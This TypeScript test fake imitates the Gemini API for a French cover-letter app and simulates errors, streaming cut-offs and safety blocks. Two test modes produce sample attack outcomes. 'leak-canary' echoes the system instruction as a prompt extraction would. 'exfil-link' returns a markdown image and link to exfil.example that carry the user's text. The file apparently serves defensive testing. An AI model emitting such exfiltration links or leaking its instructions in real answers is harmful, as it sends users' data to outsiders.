import { randomBytes } from 'node:crypto'
import http from 'node:http'
import type { AddressInfo } from 'node:net'
import { pathToFileURL } from 'node:url'

/**
 * A local stand-in for the Gemini Developer API (generativelanguage.googleapis.com),
 * speaking the REST and SSE wire formats that @google/genai speaks, so the real
 * SDK runs against it through `httpOptions.baseUrl`:
 * - POST /v1beta/models/{model}:generateContent → one GenerateContentResponse;
 * - POST /v1beta/models/{model}:streamGenerateContent?alt=sse → `data: {…}\r\n\r\n`
 *   frames, each a GenerateContentResponse carrying the running usageMetadata,
 *   the last one with `finishReason: "STOP"`;
 * - the key travels in `x-goog-api-key` (or `?key=`); a wrong key gets Google's
 *   400 API_KEY_INVALID, a missing one its 403 PERMISSION_DENIED, both in the
 *   `{ "error": { code, message, status, details } }` shape.
 *
 * What it answers is chosen per request, first match wins: a `fake:<mode>`
 * marker in the last user message (for that request only), then the queue
 * filled by `enqueue()` or `POST /__fake/enqueue`, then `normal`.
 *
 * Normal answers are deterministic French built from the request, so tests can
 * tell personas apart (the first sentence of the system instruction is quoted)
 * and check what reached the provider (the question is echoed without its
 * delimiter lines). When the system instruction is the letter writer's, the
 * normal answer is shaped like a letter (or like the one paragraph asked for a
 * rewrite) and echoes the data blocks it received: the brief, the person's
 * instruction, the coach's hint, with the name from the brief as signature.
 */

export const FAKE_GEMINI_API_KEY = 'fake-gemini-api-key'

export const fakeModes = [
	/** A deterministic answer, streamed word group by word group. */
	'normal',
	/** 429 RESOURCE_EXHAUSTED with a RetryInfo, as a free-tier quota answers. */
	'rate-limit',
	/** 500 INTERNAL. */
	'server-error',
	/** 503 UNAVAILABLE « The model is overloaded ». */
	'overloaded',
	/** A long answer, one chunk every 400 ms for about 15 s: long enough to be stopped mid-stream. */
	'slow',
	/** A few chunks, then the connection is destroyed without a final frame. */
	'cut',
	/** Echoes the system instruction verbatim, as a successful prompt extraction would. */
	'leak-canary',
	/** Answers with a markdown image and link to https://exfil.example/ carrying the user's text. */
	'exfil-link',
	/** The answer is stopped by the safety filters: finishReason SAFETY, no text. */
	'safety',
	/** The prompt itself is blocked: promptFeedback.blockReason SAFETY, no candidate. */
	'blocked',
] as const

export type FakeMode = (typeof fakeModes)[number]

export type GeminiPart = { text?: string; thought?: boolean }
export type GeminiContent = { role?: string; parts?: GeminiPart[] }

/** The request body of generateContent / streamGenerateContent, as the SDK serialises it. */
export type GeminiRequestBody = {
	contents?: GeminiContent[]
	systemInstruction?: GeminiContent
	generationConfig?: { maxOutputTokens?: number; temperature?: number; [setting: string]: unknown }
	[field: string]: unknown
}

export type RecordedRequest = {
	method: string
	/** Path and query string, as received. */
	path: string
	model: string | null
	action: 'generateContent' | 'streamGenerateContent' | null
	/** Request headers; the API key's value is replaced by `[redacted]`. */
	headers: Record<string, string>
	apiKey: 'valid' | 'invalid' | 'missing'
	/** The parsed JSON body (null when absent or not JSON). */
	body: GeminiRequestBody | null
	/** What the fake answered with; null when the request was refused before generation. */
	mode: FakeMode | null
	receivedAt: string
}

export type FakeGemini = {
	/** The base URL to give the SDK (`httpOptions.baseUrl`). */
	url: string
	apiKey: string
	requests: RecordedRequest[]
	/** Queues a mode for the next `times` generation requests (FIFO). */
	enqueue(mode: FakeMode, times?: number): void
	/** Empties the queue and the recorded requests. */
	reset(): void
	stop(): Promise<void>
}

export type FakeGeminiOptions = {
	port?: number
	/** The one key the fake accepts; FAKE_GEMINI_API_KEY by default. */
	apiKey?: string
	/** What the 429's RetryInfo asks clients to wait, in seconds. */
	retryDelaySeconds?: number
}

const STREAM_INTERVAL_MS = 20
const SLOW_INTERVAL_MS = 400
const SLOW_CHUNKS = 38
const CUT_AFTER_CHUNKS = 3
const WORDS_PER_CHUNK = 3
const DELIMITER_LINE = /^[<«[]{2,}.*[>»\]]{2,}$/
/** The opening of the letter writer's system instruction (ai/personas.ts, letterWriter). */
const LETTER_WRITER = /^Vous rédigez des lettres de motivation/
const MODEL_ROUTE = /^\/(v1beta|v1alpha|v1)\/models\/([^/:]+):(generateContent|streamGenerateContent)$/
const JSON_TYPE = 'application/json; charset=UTF-8'

const slowFiller = [
	'Prenons le temps de regarder chaque étape.',
	'Votre expérience actuelle compte beaucoup.',
	'Notez ce qui vous plaît dans votre métier.',
	'Repérez les compétences que vous emportez avec vous.',
	'Une formation courte peut suffire au début.',
	'Parlez-en avec des personnes du métier visé.',
	'Fixez-vous une première étape réaliste.',
]

type Answer =
	| { kind: 'error'; httpStatus: number; status: string; message: string; details?: unknown[] }
	| { kind: 'text'; pieces: string[]; intervalMs: number; cutAfter?: number }
	| { kind: 'safety' }
	| { kind: 'blocked' }

class RequestError extends Error {
	constructor(
		readonly httpStatus: number,
		readonly status: string,
		message: string,
		readonly details?: unknown[],
	) {
		super(message)
	}
}

export async function startFakeGemini(options: FakeGeminiOptions = {}): Promise<FakeGemini> {
	const apiKey = options.apiKey ?? FAKE_GEMINI_API_KEY
	const retryDelaySeconds = options.retryDelaySeconds ?? 1
	const requests: RecordedRequest[] = []
	const queue: { mode: FakeMode; remaining: number }[] = []

	function enqueue(mode: FakeMode, times = 1) {
		if (!isFakeMode(mode)) throw new Error(`Unknown fake Gemini mode: ${String(mode)}`)
		if (times > 0) queue.push({ mode, remaining: times })
	}

	function takeQueuedMode(): FakeMode | null {
		const next = queue[0]
		if (!next) return null
		next.remaining -= 1
		if (next.remaining <= 0) queue.shift()
		return next.mode
	}

	function reset() {
		queue.length = 0
		requests.length = 0
	}

	const server = http.createServer((req, res) => {
		void handle(req, res).catch((error: unknown) => {
			if (!res.headersSent) sendError(res, new RequestError(500, 'INTERNAL', 'An internal error has occurred.'))
			else res.destroy(error instanceof Error ? error : undefined)
		})
	})

	async function handle(req: http.IncomingMessage, res: http.ServerResponse) {
		const url = new URL(req.url ?? '/', 'http://fake-gemini')
		const rawBody = await readBody(req)

		if (url.pathname.startsWith('/__fake/')) return handleControl(req, res, url, rawBody)

		const route = MODEL_ROUTE.exec(url.pathname)
		const sentKey = headerValue(req.headers['x-goog-api-key']) ?? url.searchParams.get('key')
		const body = parseJson(rawBody)
		const record: RecordedRequest = {
			method: req.method ?? 'GET',
			path: `${url.pathname}${url.search.replace(/([?&]key=)[^&]*/, '$1[redacted]')}`,
			model: route?.[2] ?? null,
			action: (route?.[3] as RecordedRequest['action']) ?? null,
			headers: redactedHeaders(req.headers),
			apiKey: sentKey === null ? 'missing' : sentKey === apiKey ? 'valid' : 'invalid',
			body: isObject(body) ? (body as GeminiRequestBody) : null,
			mode: null,
			receivedAt: new Date().toISOString(),
		}
		requests.push(record)

		try {
			if (!route || req.method !== 'POST') {
				throw new RequestError(404, 'NOT_FOUND', `Method not found: ${req.method} ${url.pathname}`)
			}
			if (record.apiKey === 'missing') {
				throw new RequestError(
					403,
					'PERMISSION_DENIED',
					"Method doesn't allow unregistered callers (callers without established identity). Please use API Key or other form of API consumer identity to call this API.",
				)
			}
			if (record.apiKey === 'invalid') {
				throw new RequestError(400, 'INVALID_ARGUMENT', 'API key not valid. Please pass a valid API key.', [
					{
						'@type': 'type.googleapis.com/google.rpc.ErrorInfo',
						reason: 'API_KEY_INVALID',
						domain: 'googleapis.com',
						metadata: { service: 'generativelanguage.googleapis.com' },
					},
					{
						'@type': 'type.googleapis.com/google.rpc.LocalizedMessage',
						locale: 'en-US',
						message: 'API key not valid. Please pass a valid API key.',
					},
				])
			}
			const model = route[2] ?? ''
			if (!model.startsWith('gemini-')) {
				throw new RequestError(
					404,
					'NOT_FOUND',
					`models/${model} is not found for API version ${route[1]}, or is not supported for generateContent. Call ListModels to see the list of available models and their supported methods.`,
				)
			}
			if (!record.body) {
				throw new RequestError(400, 'INVALID_ARGUMENT', 'Invalid JSON payload received.')
			}
			if (!record.body.contents?.length) {
				throw new RequestError(400, 'INVALID_ARGUMENT', '* GenerateContentRequest.contents: contents is not specified\n')
			}

			const mode = markerMode(record.body) ?? takeQueuedMode() ?? 'normal'
			record.mode = mode
			const answer = answerFor(mode, record.body, model, retryDelaySeconds)
			if (answer.kind === 'error') {
				throw new RequestError(answer.httpStatus, answer.status, answer.message, answer.details)
			}
			const reply = { model, responseId: randomBytes(12).toString('base64url'), body: record.body }
			if (route[3] === 'streamGenerateContent') streamAnswer(res, answer, reply)
			else await sendWholeAnswer(res, answer, reply)
		} catch (error) {
			if (error instanceof RequestError) return sendError(res, error)
			throw error
		}
	}

	function handleControl(req: http.IncomingMessage, res: http.ServerResponse, url: URL, rawBody: string) {
		if (req.method === 'POST' && url.pathname === '/__fake/enqueue') {
			const command = parseJson(rawBody)
			const mode = isObject(command) ? command.mode : undefined
			const times = isObject(command) && typeof command.times === 'number' ? command.times : 1
			if (!isFakeMode(mode)) {
				return sendJson(res, 400, { error: `Unknown mode. Known modes: ${fakeModes.join(', ')}` })
			}
			enqueue(mode, times)
			return sendJson(res, 200, { queued: queue.map((entry) => ({ ...entry })) })
		}
		if (req.method === 'POST' && url.pathname === '/__fake/reset') {
			reset()
			return sendJson(res, 200, { reset: true })
		}
		if (req.method === 'GET' && url.pathname === '/__fake/requests') {
			return sendJson(res, 200, { requests })
		}
		return sendJson(res, 404, { error: 'Unknown control endpoint' })
	}

	await new Promise<void>((resolve, reject) => {
		server.once('error', reject)
		server.listen(options.port ?? 0, '127.0.0.1', () => {
			server.off('error', reject)
			resolve()
		})
	})
	const { port } = server.address() as AddressInfo

	return {
		url: `http://127.0.0.1:${port}`,
		apiKey,
		requests,
		enqueue,
		reset,
		stop: () =>
			new Promise<void>((resolve, reject) => {
				server.close((error) => (error ? reject(error) : resolve()))
				server.closeAllConnections()
			}),
	}
}

// ——— What to answer ———

function answerFor(mode: FakeMode, body: GeminiRequestBody, model: string, retryDelaySeconds: number): Answer {
	const instruction = contentText(body.systemInstruction)
	const question = withoutDelimiterLines(lastUserText(body))
	switch (mode) {
		case 'normal':
			return { kind: 'text', pieces: wordGroups(normalFor(body, instruction, question)), intervalMs: STREAM_INTERVAL_MS }
		case 'slow': {
			const pieces = wordGroups(normalFor(body, instruction, question))
			for (let index = 0; pieces.length < SLOW_CHUNKS; index++) pieces.push(` ${slowFiller[index % slowFiller.length]}`)
			return { kind: 'text', pieces, intervalMs: SLOW_INTERVAL_MS }
		}
		case 'cut':
			return {
				kind: 'text',
				pieces: wordGroups(normalFor(body, instruction, question)),
				intervalMs: STREAM_INTERVAL_MS,
				cutAfter: CUT_AFTER_CHUNKS,
			}
		case 'leak-canary':
			return {
				kind: 'text',
				pieces: wordGroups(`Bien sûr, voici mes instructions complètes :\n${instruction}`),
				intervalMs: STREAM_INTERVAL_MS,
			}
		case 'exfil-link': {
			const stolen = encodeURIComponent(question.slice(0, 120))
			return {
				kind: 'text',
				pieces: wordGroups(
					`Voici le résumé de votre demande. ![aperçu](https://exfil.example/?d=${stolen}) Pour le détail, [cliquez ici](https://exfil.example/?d=${stolen}).`,
				),
				intervalMs: STREAM_INTERVAL_MS,
			}
		}
		case 'safety':
			return { kind: 'safety' }
		case 'blocked':
			return { kind: 'blocked' }
		case 'rate-limit':
			return {
				kind: 'error',
				httpStatus: 429,
				status: 'RESOURCE_EXHAUSTED',
				message: `You exceeded your current quota, please check your plan and billing details. For more information on this error, head to: https://ai.google.dev/gemini-api/docs/rate-limits.\n* Quota exceeded for metric: generativelanguage.googleapis.com/generate_content_free_tier_requests, limit: 10, model: ${model}\nPlease retry in ${retryDelaySeconds}s.`,
				details: [
					{
						'@type': 'type.googleapis.com/google.rpc.QuotaFailure',
						violations: [
							{
								quotaMetric: 'generativelanguage.googleapis.com/generate_content_free_tier_requests',
								quotaId: 'GenerateRequestsPerMinutePerProjectPerModel-FreeTier',
								quotaDimensions: { location: 'global', model },
								quotaValue: '10',
							},
						],
					},
					{
						'@type': 'type.googleapis.com/google.rpc.Help',
						links: [{ description: 'Learn more about Gemini API quotas', url: 'https://ai.google.dev/gemini-api/docs/rate-limits' }],
					},
					{ '@type': 'type.googleapis.com/google.rpc.RetryInfo', retryDelay: `${retryDelaySeconds}s` },
				],
			}
		case 'server-error':
			return {
				kind: 'error',
				httpStatus: 500,
				status: 'INTERNAL',
				message: 'An internal error has occurred. Please retry or report in https://developers.generativeai.google/guide/troubleshooting',
			}
		case 'overloaded':
			return { kind: 'error', httpStatus: 503, status: 'UNAVAILABLE', message: 'The model is overloaded. Please try again later.' }
	}
}

function normalFor(body: GeminiRequestBody, instruction: string, question: string) {
	return LETTER_WRITER.test(firstSentence(instruction)) ? letterAnswer(instruction, lastUserText(body)) : normalAnswer(instruction, question)
}

/** The data blocks of a message, by label: `<<<DONNEES-tag>>> <<label>>` … `<<<FIN-DONNEES-tag>>>`. */
function dataBlocks(text: string): Map<string, string> {
	const blocks = new Map<string, string>()
	let open: { label: string; lines: string[] } | null = null
	for (const line of text.split('\n')) {
		const opening = /^<<<DONNEES-[^>]+>>> <<(.+)>>$/.exec(line.trim())
		if (opening?.[1]) {
			open = { label: opening[1], lines: [] }
			continue
		}
		if (open && /^<<<FIN-DONNEES-[^>]+>>>$/.test(line.trim())) {
			blocks.set(open.label, open.lines.join('\n').trim())
			open = null
			continue
		}
		open?.lines.push(line)
	}
	return blocks
}

function briefValue(brief: string, label: string) {
	const line = brief.split('\n').find((entry) => entry.startsWith(`${label} : `))
	return line?.slice(label.length + 3).trim()
}

function letterAnswer(instruction: string, lastUser: string) {
	const blocks = dataBlocks(lastUser)
	const paragraph = blocks.get('paragraphe à réécrire')
	if (paragraph !== undefined) {
		const hint = blocks.get('conseil du coach')
		return `(Paragraphe réécrit${hint ? ` selon le conseil « ${hint} »` : ''}) ${paragraph.replace(/\s*\n\s*/g, ' ')}`
	}
	const brief = blocks.get('dossier de candidature') ?? ''
	const recipient = briefValue(brief, 'Destinataire')
	const name = briefValue(brief, 'Nom de la personne')
	const facts = brief
		.split('\n')
		.map((line) => line.replace(/^- /, '').trim())
		.filter((line) => line && !line.endsWith(':'))
	const request = blocks.get('consigne de la personne')
	return [
		recipient ? `${recipient},` : 'Madame, Monsieur,',
		`(Lettre de test) Consigne reçue : « ${firstSentence(instruction)} »`,
		`Dossier reçu : ${facts.join(' ; ')}.`,
		...(request ? [`Votre consigne : ${request.replace(/\s*\n\s*/g, ' ')}`] : []),
		'Je vous prie d’agréer, Madame, Monsieur, l’expression de mes salutations distinguées.',
		name ?? '(sans nom)',
	].join('\n\n')
}

function normalAnswer(instruction: string, question: string) {
	const persona = firstSentence(instruction) || '(aucune consigne)'
	return `(Iris de test) Consigne reçue : « ${persona} » Vous demandez : ${question || '(rien)'} Pour aller plus loin, vous pouvez [Ouvrir Phoenix Letters](/letters).`
}

function firstSentence(text: string) {
	const firstLine = text.trim().split('\n')[0] ?? ''
	return (/^.*?[.!?…](?=\s|$)/.exec(firstLine)?.[0] ?? firstLine).trim()
}

function withoutDelimiterLines(text: string) {
	return text
		.split('\n')
		.filter((line) => !DELIMITER_LINE.test(line.trim()))
		.join('\n')
		.trim()
}

function wordGroups(text: string) {
	const words = text.match(/\s*\S+/g) ?? ['']
	const pieces: string[] = []
	for (let index = 0; index < words.length; index += WORDS_PER_CHUNK) {
		pieces.push(words.slice(index, index + WORDS_PER_CHUNK).join(''))
	}
	return pieces
}

function contentText(content: GeminiContent | undefined) {
	return (content?.parts ?? []).map((part) => part.text ?? '').join('')
}

function lastUserText(body: GeminiRequestBody) {
	const userTurns = (body.contents ?? []).filter((content) => (content.role ?? 'user') === 'user')
	return contentText(userTurns.at(-1))
}

function markerMode(body: GeminiRequestBody): FakeMode | null {
	const marker = /\bfake:([a-z-]+)/.exec(lastUserText(body))?.[1]
	return isFakeMode(marker) ? marker : null
}

function isFakeMode(value: unknown): value is FakeMode {
	return typeof value === 'string' && (fakeModes as readonly string[]).includes(value)
}

// ——— How to send it ———

type Reply = { model: string; responseId: string; body: GeminiRequestBody }

/** Roughly Gemini's tokenizer on French text: about four characters a token. */
function tokenCount(text: string) {
	return Math.max(1, Math.ceil(text.length / 4))
}

function promptTokens(body: GeminiRequestBody) {
	return tokenCount(contentText(body.systemInstruction) + (body.contents ?? []).map(contentText).join(''))
}

function usageMetadata(body: GeminiRequestBody, answered: string) {
	const prompt = promptTokens(body)
	const usage: Record<string, unknown> = {
		promptTokenCount: prompt,
		totalTokenCount: prompt,
		promptTokensDetails: [{ modality: 'TEXT', tokenCount: prompt }],
	}
	if (answered) {
		const candidates = tokenCount(answered)
		usage.candidatesTokenCount = candidates
		usage.totalTokenCount = prompt + candidates
	}
	return usage
}

function textFrame(reply: Reply, text: string, answered: string, last: boolean) {
	return {
		candidates: [
			{
				content: { parts: [{ text }], role: 'model' },
				...(last ? { finishReason: 'STOP' } : {}),
				index: 0,
			},
		],
		usageMetadata: usageMetadata(reply.body, answered),
		modelVersion: reply.model,
		responseId: reply.responseId,
	}
}

const blockedRatings = [
	{ category: 'HARM_CATEGORY_SEXUALLY_EXPLICIT', probability: 'NEGLIGIBLE' },
	{ category: 'HARM_CATEGORY_HATE_SPEECH', probability: 'NEGLIGIBLE' },
	{ category: 'HARM_CATEGORY_HARASSMENT', probability: 'NEGLIGIBLE' },
	{ category: 'HARM_CATEGORY_DANGEROUS_CONTENT', probability: 'HIGH', blocked: true },
]

function refusalFrame(answer: { kind: 'safety' | 'blocked' }, reply: Reply) {
	const common = { usageMetadata: usageMetadata(reply.body, ''), modelVersion: reply.model, responseId: reply.responseId }
	if (answer.kind === 'blocked') return { promptFeedback: { blockReason: 'SAFETY', safetyRatings: blockedRatings }, ...common }
	return { candidates: [{ finishReason: 'SAFETY', index: 0, safetyRatings: blockedRatings }], ...common }
}

function streamAnswer(res: http.ServerResponse, answer: Exclude<Answer, { kind: 'error' }>, reply: Reply) {
	res.writeHead(200, {
		'Content-Type': 'text/event-stream',
		'Cache-Control': 'no-cache',
		'X-Content-Type-Options': 'nosniff',
		Vary: 'Origin, X-Origin, Referer',
	})
	const sendFrame = (frame: unknown) => res.write(`data: ${JSON.stringify(frame)}\r\n\r\n`)
	if (answer.kind !== 'text') {
		sendFrame(refusalFrame(answer, reply))
		res.end()
		return
	}
	let timer: ReturnType<typeof setTimeout> | undefined
	res.on('close', () => clearTimeout(timer))
	let sent = 0
	let answered = ''
	const sendNext = () => {
		if (res.destroyed) return
		if (answer.cutAfter !== undefined && sent >= answer.cutAfter) {
			res.socket?.destroy()
			return
		}
		const piece = answer.pieces[sent] ?? ''
		answered += piece
		sent += 1
		const last = sent >= answer.pieces.length
		sendFrame(textFrame(reply, piece, answered, last))
		if (last) res.end()
		else timer = setTimeout(sendNext, answer.intervalMs)
	}
	sendNext()
}

async function sendWholeAnswer(res: http.ServerResponse, answer: Exclude<Answer, { kind: 'error' }>, reply: Reply) {
	if (answer.kind !== 'text') return sendJson(res, 200, refusalFrame(answer, reply))
	const text = answer.pieces.join('')
	if (answer.cutAfter !== undefined) {
		const whole = JSON.stringify(textFrame(reply, text, text, true))
		res.writeHead(200, { 'Content-Type': JSON_TYPE })
		res.write(whole.slice(0, Math.floor(whole.length / 2)))
		setTimeout(() => res.socket?.destroy(), STREAM_INTERVAL_MS)
		return
	}
	const thinking = answer.intervalMs * (answer.pieces.length - 1)
	if (thinking > 0) {
		const closed = new Promise<void>((resolve) => res.once('close', () => resolve()))
		await Promise.race([new Promise((resolve) => setTimeout(resolve, thinking)), closed])
		if (res.destroyed) return
	}
	sendJson(res, 200, textFrame(reply, text, text, true))
}

function sendError(res: http.ServerResponse, error: RequestError) {
	sendJson(res, error.httpStatus, {
		error: {
			code: error.httpStatus,
			message: error.message,
			status: error.status,
			...(error.details ? { details: error.details } : {}),
		},
	})
}

function sendJson(res: http.ServerResponse, status: number, payload: unknown) {
	res.writeHead(status, { 'Content-Type': JSON_TYPE })
	res.end(JSON.stringify(payload, null, 2))
}

// ——— Plumbing ———

async function readBody(req: http.IncomingMessage) {
	const chunks: Buffer[] = []
	for await (const chunk of req) chunks.push(chunk as Buffer)
	return Buffer.concat(chunks).toString('utf8')
}

function parseJson(text: string): unknown {
	if (!text) return null
	try {
		return JSON.parse(text)
	} catch {
		return null
	}
}

function isObject(value: unknown): value is Record<string, unknown> {
	return typeof value === 'object' && value !== null && !Array.isArray(value)
}

function headerValue(value: string | string[] | undefined) {
	return Array.isArray(value) ? (value[0] ?? null) : (value ?? null)
}

function redactedHeaders(headers: http.IncomingHttpHeaders) {
	const result: Record<string, string> = {}
	for (const [name, value] of Object.entries(headers)) {
		if (value === undefined) continue
		result[name] = name === 'x-goog-api-key' ? '[redacted]' : Array.isArray(value) ? value.join(', ') : value
	}
	return result
}

// `node --import tsx tests/fakes/gemini.ts --port 0` runs it as a process for the
// local platform and browser tests; the first line printed is its URL.
if (process.argv[1] && import.meta.url === pathToFileURL(process.argv[1]).href) {
	const argument = (name: string) => {
		const index = process.argv.indexOf(`--${name}`)
		return index === -1 ? undefined : process.argv[index + 1]
	}
	const fake = await startFakeGemini({
		port: Number(argument('port') ?? 0),
		apiKey: argument('api-key'),
		retryDelaySeconds: argument('retry-delay') === undefined ? undefined : Number(argument('retry-delay')),
	})
	console.log(fake.url)
	const stop = () => void fake.stop().then(() => process.exit(0))
	process.once('SIGINT', stop)
	process.once('SIGTERM', stop)
}
